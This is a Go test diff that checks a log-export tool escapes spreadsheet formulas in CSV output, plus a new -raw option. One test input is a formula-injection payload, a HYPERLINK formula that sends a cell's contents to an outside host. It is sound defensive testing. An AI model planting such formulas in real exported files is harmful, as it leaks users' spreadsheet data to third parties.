@@ -71,6 +71,41 @@ func readFile(t *testing.T, path string) string {
 
 var formats = map[string]format{"jsonl": jsonLines, "csv": commaSeparated}
 
+// Cells from other servers are no formulas, unless that is asked for.
+func TestFormulas(t *testing.T) {
+	bodies := []string{`=HYPERLINK("http://example.com/?"&A1)`, "+1", "-2", "@SUM(A1)", "'=1", " =1", "a=1", ""}
+	var logs []epcclogs.IntegrationLog
+	for i, body := range bodies {
+		l := epcclogs.IntegrationLog{ID: string(rune('a' + i)), Body: body, ErrorDetail: body, ProcessingTime: -0.5}
+		l.Relationships.Job.Data.ID = "=job"
+		logs = append(logs, l)
+	}
+	srv := newServer(t, epcclogstest.WithIntegration(epcclogs.Integration{ID: "odd"}, logs...),
+		epcclogstest.WithClientCredentials("example-id", "example-secret", 0))
+	env := map[string]string{"EPCC_CLIENT_ID": "example-id", "EPCC_CLIENT_SECRET": "example-secret", "EPCC_API_BASE_URL": srv.URL}
+	path := filepath.Join(t.TempDir(), "logs.csv")
+	for _, tt := range []struct {
+		args []string
+		mark string
+	}{{[]string{path, "odd"}, "'"}, {[]string{"-raw", path + ".csv", "odd"}, ""}} {
+		status, _, stderr := call(t, env, false, tt.args...)
+		require.Zero(t, status, stderr)
+		rows, err := csv.NewReader(strings.NewReader(readFile(t, tt.args[len(tt.args)-2]))).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, rows, len(bodies)+1)
+		for i, body := range bodies {
+			if i < 4 {
+				body = tt.mark + body
+			}
+			assert.Equal(t, []string{tt.mark + "-0.5", "", tt.mark + "=job", body, body}, rows[i+1][5:])
+		}
+	}
+
+	status, _, stderr := call(t, env, false, "-raw", path, "odd")
+	assert.Equal(t, 1, status)
+	assert.Contains(t, stderr, "do not belong together: the format is csv with apostrophes, not csv")
+}
+
 func TestContent(t *testing.T) {
 	logs := oddLogs("odd")
 	srv := newServer(t, epcclogstest.WithIntegration(epcclogs.Integration{ID: "odd"}, logs...))
@@ -239,10 +274,11 @@ func TestUsage(t *testing.T) {
 		status, stdout, stderr := call(t, nil, false, args...)
 		assert.Equal(t, 2, status, args)
 		assert.Empty(t, stdout)
-		assert.Contains(t, stderr, "usage: export [-format jsonl|csv] [-n pages] [-slow] file [integration id]\n")
+		assert.Contains(t, stderr, "usage: export [-format jsonl|csv] [-n pages] [-raw] [-slow] file [integration id]\n")
 	}
-	status, _, _ := call(t, nil, false, "-h")
+	status, _, help := call(t, nil, false, "-h")
 	assert.Zero(t, status)
+	assert.Contains(t, help, "cells that begin with = + - or @")
 }
 
 func TestInterrupt(t *testing.T) {
